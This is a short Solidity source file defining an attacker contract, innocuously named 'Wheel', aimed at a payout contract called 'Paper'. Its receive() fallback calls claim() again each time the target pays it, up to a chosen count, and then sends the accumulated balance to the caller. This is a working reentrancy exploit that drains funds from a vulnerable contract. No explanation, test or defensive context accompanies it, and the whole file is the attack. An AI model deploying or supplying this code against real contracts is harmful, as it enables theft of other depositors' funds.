// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Paper {
    function subscribe(uint256 shares) external payable;
    function claim(address payable to) external;
}

/// Claims again while it is being paid.
contract Wheel {
    Paper private immutable paper;
    uint256 private left;

    constructor(Paper where) {
        paper = where;
    }

    function buy(uint256 shares) external payable {
        paper.subscribe{value: msg.value}(shares);
    }

    function turn(uint256 times) external {
        left = times;
        paper.claim(payable(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        paper.claim(payable(address(this)));
    }
}
